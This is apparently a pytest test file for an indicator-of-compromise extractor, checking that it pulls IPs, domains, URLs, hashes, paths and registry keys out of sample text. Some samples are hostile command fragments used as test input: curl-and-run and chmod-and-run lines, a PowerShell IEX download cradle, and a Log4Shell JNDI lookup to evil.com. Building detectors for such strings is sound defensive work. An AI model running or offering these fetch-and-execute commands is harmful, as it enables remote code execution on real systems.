# ruff: noqa: E501 (texts are as long as they are)
"""What is found in hard texts, all of it, and in texts that hold nothing but look-alikes."""

from __future__ import annotations

import pytest

from flowsleuth.extract.ioc.extractor import IoCExtract

MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
SHA512 = SHA256[::-1] + SHA256


def found(text: str) -> set[tuple[str, str]]:
    every = IoCExtract().extract(text, include_paths=True)
    return {(kind, value) for kind, values in every.items() for value in values}


def url(value: str, *hosts: str) -> set[tuple[str, str]]:
    return {("url", value), *(("dns", host) for host in hosts)}


ADDRESSES = [
    ("from 203.0.113.7 port 22", {("ipv4", "203.0.113.7")}),
    ("SRC=203.0.113.7:443, DST=(198.51.100.2)", {("ipv4", "203.0.113.7"), ("ipv4", "198.51.100.2")}),
    ("10.0.0.1-10.0.0.20", {("ipv4", "10.0.0.1"), ("ipv4", "10.0.0.20")}),
    ("seen at 10.0.0.1.", {("ipv4", "10.0.0.1")}),
    ("host_10.0.0.1 ip-10.0.0.2", {("ipv4", "10.0.0.1"), ("ipv4", "10.0.0.2")}),
    ("\\n8.8.8.8\\t9.9.9.9", {("ipv4", "8.8.8.8"), ("ipv4", "9.9.9.9")}),
    ("198[.]51[.]100[.]7", {("ipv4", "198.51.100.7")}),
    ("198[.]51.100.7 1(.)1(.)1(.)1 1[dot]0[dot]0[dot]1 9\\.9\\.9\\.9", {
        ("ipv4", "198.51.100.7"), ("ipv4", "1.1.1.1"), ("ipv4", "1.0.0.1"), ("ipv4", "9.9.9.9")}),
    ("IP 192.0.2.1.443 > 192.0.2.9.50123: Flags", {("ipv4", "192.0.2.1"), ("ipv4", "192.0.2.9")}),
    ("inside/10.1.1.1(1234) -> outside/8.8.8.8(53)", {("ipv4", "10.1.1.1"), ("ipv4", "8.8.8.8")}),
    ("outside:8.8.8.8/53", {("ipv4", "8.8.8.8")}),
    ("10.0.0.0/8 and 192.0.2.0/24, 192.0.2.5/24", {
        ("cidr", "10.0.0.0/8"), ("cidr", "192.0.2.0/24"), ("ipv4", "192.0.2.5")}),
    ("192.0.2.5/32", {("cidr", "192.0.2.5/32"), ("ipv4", "192.0.2.5")}),
    ("mask 255.255.255.0 to 255.255.255.255", {("ipv4", "255.255.255.255")}),
    ("来自203.0.113.7的攻击", {("ipv4", "203.0.113.7")}),
    ("SRC=2001:0db8:0000:0000:0000:0000:0000:0001", {("ipv6", "2001:db8::1")}),
    ("[2001:DB8::1]:443 fe80::1%eth0 ::1 ::ffff:192.0.2.1", {
        ("ipv6", "2001:db8::1"), ("ipv6", "fe80::1"), ("ipv6", "::1"), ("ipv6", "::ffff:192.0.2.1")}),
    ("2001[:]db8[:][:]1 2001[:]db8::2", {("ipv6", "2001:db8::1"), ("ipv6", "2001:db8::2")}),
    ("2001:db8::/32, fe80::5/64", {("cidr", "2001:db8::/32"), ("ipv6", "fe80::5")}),
    ("client 2001:db8::9.", {("ipv6", "2001:db8::9")}),
    ("aa:bb:cc:dd:ee:ff AA-BB-CC-DD-EE-01 0011.2233.44fe", {
        ("mac", "aa:bb:cc:dd:ee:ff"), ("mac", "aa:bb:cc:dd:ee:01"), ("mac", "00:11:22:33:44:fe")}),
    ("MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00", {
        ("mac", "00:11:22:33:44:55"), ("mac", "66:77:88:99:aa:bb")}),
]  # fmt: skip

NAMES = [
    ("EVIL.COM and Evil.Com.", {("dns", "evil.com")}),
    ("evil[.]com, evil(dot)org evil {.} net evil[dot]ru", {
        ("dns", "evil.com"), ("dns", "evil.org"), ("dns", "evil.net"), ("dns", "evil.ru")}),
    ("_dmarc.evil.com a_b.evil.com _ldap._tcp.dc._msdcs.evil.com", {
        ("dns", "_dmarc.evil.com"), ("dns", "a_b.evil.com"), ("dns", "_ldap._tcp.dc._msdcs.evil.com")}),
    ("bücher.de xn--bcher-kva.de xn--e1afmkfd.xn--p1ai пример.рф", {
        ("dns", "xn--bcher-kva.de"), ("dns", "xn--e1afmkfd.xn--p1ai")}),
    ("访问evil.com下载", {("dns", "evil.com")}),
    ("*.evil.com .evil.net", {("dns", "evil.com"), ("dns", "evil.net")}),
    ("4.3.2.1.nip.io", {("dns", "4.3.2.1.nip.io")}),
    ("relay=mx1.evil.com[203.0.113.7]:25", {("dns", "mx1.evil.com"), ("ipv4", "203.0.113.7")}),
    ("evil.com/a/readme.md", {("dns", "evil.com")}),
    ("query[A] evil.sh from 10.0.0.2; evil.zip IN A", {("dns", "evil.sh"), ("ipv4", "10.0.0.2"), ("dns", "evil.zip")}),
    ("setup.zip deploy.sh www.evil.zip evil[.]sh", {
        ("file_name", "setup.zip"), ("file_name", "deploy.sh"), ("dns", "www.evil.zip"), ("dns", "evil.sh")}),
    ("lib-1.0.2.so", {("file_name", "lib-1.0.2.so")}),
    ("360.cn 163.com", {("dns", "360.cn"), ("dns", "163.com")}),
    ("john.doe@Evil.COM, bad[at]guy[dot]ru x(@)y(.)net a [at] b [.] org", {
        ("email", "john.doe@evil.com"), ("dns", "evil.com"), ("email", "bad@guy.ru"), ("dns", "guy.ru"),
        ("email", "x@y.net"), ("dns", "y.net"), ("email", "a@b.org"), ("dns", "b.org")}),
    ("<a.b+tag@mail.evil.co.uk>", {("email", "a.b+tag@mail.evil.co.uk"), ("dns", "mail.evil.co.uk")}),
    ("jo[.]doe[at]evil(.)com", {("email", "jo.doe@evil.com"), ("dns", "evil.com")}),
    ("message-id=<20261120.77@mx.evil.com>", {("dns", "mx.evil.com")}),
    ("git clone git@github.com:a/b", {("dns", "github.com")}),
]  # fmt: skip

URLS = [
    ("see (http://a.com/x_(1)), or 'http://b.com/q'.", url("http://a.com/x_(1)", "a.com") | url("http://b.com/q", "b.com")),
    ("hxxps[:]//evil[.]com[:]8443/a[.]php?u=1", url("https://evil.com:8443/a.php?u=1", "evil.com")),
    ("hXXp://evil.com/a hxxp://evil(.)com/b", url("http://evil.com/a", "evil.com") | url("http://evil.com/b")),
    ("h**p://evil.com/a h__ps://evil.com/b fxp://evil.com/c meow://evil.com/d",
     url("http://evil.com/a", "evil.com") | url("https://evil.com/b") | url("ftp://evil.com/c") | url("http://evil.com/d")),
    ("hxxp[://]evil.com/a http:[/][/]evil.com[/]b", url("http://evil.com/a", "evil.com") | url("http://evil.com/b")),
    ("HTTP://Evil.COM/Path?Q=A#F", url("http://evil.com/Path?Q=A#F", "evil.com")),
    ("http://[2001:db8::1]:8080/x", url("http://[2001:db8::1]:8080/x") | {("ipv6", "2001:db8::1")}),
    ("http://203.0.113.7/x.sh;chmod +x x.sh", url("http://203.0.113.7/x.sh") | {
        ("ipv4", "203.0.113.7"), ("file_name", "x.sh")}),
    ("http://a.com/a;jsessionid=1F?x=1;", url("http://a.com/a;jsessionid=1F?x=1", "a.com")),
    ("curl http://a.com/x&&sh x", url("http://a.com/x", "a.com")),
    ('{"u":"http:\\/\\/a.com\\/x\\/y","n":1}', url("http://a.com/x/y", "a.com")),
    ('<a href="http://a.com/?x=1&amp;y=2">http://a.com/z</a>',
     url("http://a.com/?x=1&amp;y=2", "a.com") | url("http://a.com/z")),
    ("http://a.com/x,http://b.com/y", url("http://a.com/x", "a.com") | url("http://b.com/y", "b.com")),
    ("url=http://a.com/x,ip=1.2.3.4", url("http://a.com/x", "a.com") | {("ipv4", "1.2.3.4")}),
    ("IEX(New-Object Net.WebClient).DownloadString('http://a.com/x.ps1'+$y)", url("http://a.com/x.ps1", "a.com")),
    ("http://user:pw@evil.com/x", url("http://user:pw@evil.com/x", "evil.com")),
    ("http://localhost:8080/x http://server7/y", url("http://localhost:8080/x") | url("http://server7/y")),
    ("${jndi:ldap://evil.com:1389/Exploit}", url("ldap://evil.com:1389/Exploit", "evil.com")),
    ("http://bücher.de/ü", url("http://xn--bcher-kva.de/ü", "xn--bcher-kva.de")),
    ("http://a.com/?u=http%3A%2F%2Fb.com%2Fx&z=1",
     url("http://a.com/?u=http%3A%2F%2Fb.com%2Fx&z=1", "a.com") | url("http://b.com/x", "b.com")),
    ("http://a.com/?u=http://b.com/x.zip", url("http://a.com/?u=http://b.com/x.zip", "a.com") | url("http://b.com/x.zip", "b.com")),
    ("1,x,y.exe,http://a.com/x=,False,2021", url("http://a.com/x=", "a.com")),
    ("a, b, http://a.com/x,1.html c", url("http://a.com/x,1.html", "a.com")),
    ("file:///etc/passwd", url("file:///etc/passwd")),
    ("“http://a.com/x” and http://b.com/y…", url("http://a.com/x", "a.com") | url("http://b.com/y", "b.com")),
    ("\\nhttp://a.com/x\\n", url("http://a.com/x", "a.com")),
    (f"http://a.com/{MD5}/view", url(f"http://a.com/{MD5}/view", "a.com") | {("md5_hash", MD5)}),
    ("http://a.com http://a.com:80.", url("http://a.com", "a.com") | url("http://a.com:80")),
    ("http://a.com/v1.2.3.4/x.zip?q=1.2.3.5", url("http://a.com/v1.2.3.4/x.zip?q=1.2.3.5", "a.com") | {("ipv4", "1.2.3.5")}),
]  # fmt: skip

HASHES = [
    (f"{MD5} {SHA1} {SHA256} {SHA512}", {
        ("md5_hash", MD5), ("sha1_hash", SHA1), ("sha256_hash", SHA256), ("sha512_hash", SHA512)}),
    (f"MD5={MD5.upper()},SHA1={SHA1.upper()}", {("md5_hash", MD5), ("sha1_hash", SHA1)}),
    (f"{MD5},{MD5[::-1]}", {("md5_hash", MD5), ("md5_hash", MD5[::-1])}),
    (f"sample_{MD5}.bin sha256-{SHA256}", {("md5_hash", MD5), ("sha256_hash", SHA256)}),
    ("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa, 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", {
        ("bitcoin", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")}),
    ("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", {
        ("bitcoin", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4")}),
    ("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy", {("bitcoin", "3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy")}),
    ("cve-2021-44228, CVE-2014-0160.", {("cve", "CVE-2021-44228"), ("cve", "CVE-2014-0160")}),
    ("T1059.001, T1003; attack.t1566.002", {("attack", "T1059.001"), ("attack", "T1003"), ("attack", "T1566.002")}),
]  # fmt: skip

PATHS = [
    ("C:\\Program Files (x86)\\Foo Bar\\x.exe -k y", {("windows_path", "C:\\Program Files (x86)\\Foo Bar\\x.exe")}),
    ('cmd /c "C:\\Users\\me\\my file.txt" /s', {("windows_path", "C:\\Users\\me\\my file.txt")}),
    ('{"p":"C:\\\\Users\\\\a\\\\x.dll"}', {("windows_path", "C:\\Users\\a\\x.dll")}),
    ("\\\\srv01\\share$\\a b\\c.doc, \\Device\\HarddiskVolume3\\Windows\\x.sys", {
        ("windows_path", "\\\\srv01\\share$\\a b\\c.doc"), ("windows_path", "\\Device\\HarddiskVolume3\\Windows\\x.sys")}),
    ("%APPDATA%\\a\\b.exe", {("windows_path", "%APPDATA%\\a\\b.exe")}),
    ("copy C:\\a\\b.txt D:\\c", {("windows_path", "C:\\a\\b.txt"), ("windows_path", "D:\\c")}),
    ("C:\\Windows\\System32 is in use", {("windows_path", "C:\\Windows\\System32")}),
    ("HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run /v x", {
        ("registry_key", "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Run")}),
    ("((gp HKCU:\\Software\\Windows\\CurrentVersion debug).debug)\\x", {
        ("registry_key", "HKCU\\Software\\Windows\\CurrentVersion")}),
    ("HKEY_CURRENT_USER\\Software\\X, \\REGISTRY\\MACHINE\\SYSTEM\\Y HKLM:\\Z", {
        ("registry_key", "HKCU\\Software\\X"), ("registry_key", "HKLM\\SYSTEM\\Y"), ("registry_key", "HKLM\\Z")}),
    ("sh /tmp/x.sh;ls /etc/passwd:/usr/bin", {
        ("linux_path", "/tmp/x.sh"), ("linux_path", "/etc/passwd"), ("linux_path", "/usr/bin")}),
    ("cat '/home/me/my file.txt' ~/.ssh/id_rsa.pub /home/a\\ b/c", {
        ("linux_path", "/home/me/my file.txt"), ("linux_path", "~/.ssh/id_rsa.pub"), ("linux_path", "/home/a b/c")}),
    ('exe="/bin/sh -c foo"', {("linux_path", "/bin/sh")}),
]  # fmt: skip

NOTHING = [
    "Nov 20 12:30:45 x 2026-11-20T10:20:30.123Z [20/Nov/2026:10:20:30 +0000] 10:20:30:40",
    "Version 4.18.2.5 v1.2.3.4 Chrome/91.0.44.12 rv:1.9.0.1 FileVersion=1.2.3.4 curl/1.2.3.4",
    "1.3.6.1.4.1.311 oid 2.5.29.15 1.2.3.4.5 256.1.1.1 1.2.3 010.1.1.1 1.2.3.400",
    "foo-1.2.3.4.tar.gz pkg_1.2.3.4_amd64.deb 1.2.3.4-beta",
    "std::vector a::b dead::beef Foo::Bar :: ::: 12::: 1:2:3 00:11:22:33:44:55:66:77",
    "00:00:00:00:00:00 ff:ff:ff:ff:ff:ff 26-11-20-10-20-30",
    "System.Net WebClient.download user.name=x done.It was $x.name obj->msg.id foo.run(1) svchost.exe a.b.c",
    "server.local printer.lan evil.example x.y setup.exe index.php v1.2 e.g. i.e. etc.",
    '{"event.id":1,"log.name":"x"}',
    "/s /v1.2 GET /etc/x HTTP/1.1 and/or a/b/c 20/Nov/2026 /api/v1/users",
    "/options C: C:\\ \\n \\\\ %PATH% domain\\user HKLM CVE-12-3 T10 T2000 T1059x",
    "0" * 32 + " " + "a" * 40 + " " + "1234567890" * 4 + " trace_id=" + MD5[::-1] + " " + MD5 + "ff",
    "proctitle=7375646F00617564697463746C002D6C WScript.Shell wscript.shell asyncio.run(x)",
    "http:// https://{host}/ http://%s/ xhttp//a @evil me@localhost @types/node pkg@1.2.3.4 a@b",
    "http", "", " ", "[.]", "[at]", "://", "%", "\\", "@", ":", "::", "[", "hxxp://", "h**p://", "[dot][at][:]",
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), ADDRESSES + NAMES + URLS + HASHES + PATHS)
def test_found(text: str, expected: set[tuple[str, str]]) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", NOTHING)
def test_nothing(text: str) -> None:
    assert found(text) - {("ipv4", "1.2.3.4")} == set() if "pkg@" in text else found(text) == set()
